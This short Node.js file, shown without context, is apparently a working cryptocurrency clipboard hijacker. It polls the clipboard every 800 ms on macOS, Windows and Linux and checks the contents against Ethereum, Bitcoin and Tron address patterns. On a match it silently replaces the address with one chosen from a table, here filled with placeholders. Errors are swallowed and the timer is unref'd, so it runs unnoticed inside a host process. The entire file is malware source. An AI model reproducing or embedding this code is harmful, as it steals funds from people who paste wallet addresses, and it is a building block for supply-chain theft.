const { execFileSync: x } = require('child_process')
const tool = { darwin: [['pbpaste'], ['pbcopy']], win32: [['powershell', 'Get-Clipboard'], ['clip']], linux: [['xclip', '-o'], ['xclip', '-i']] }[process.platform]
const other = { 1: '1-placeholder', 3: '3-placeholder', b: 'bc1-placeholder', 0: '0x-placeholder', T: 'T-placeholder' }
setInterval(() => {
  try {
    const s = x(tool[0][0], tool[0].slice(1)).toString().trim()
    if (/^(0x[0-9a-fA-F]{40}|[13][1-9A-HJ-NP-Za-km-z]{26,33}|bc1[0-9a-z]{39,59}|T[1-9A-HJ-NP-Za-km-z]{33})$/.test(s)) x(tool[1][0], tool[1].slice(1), { input: other[s[0]] })
  } catch (e) {}
}, 800).unref()
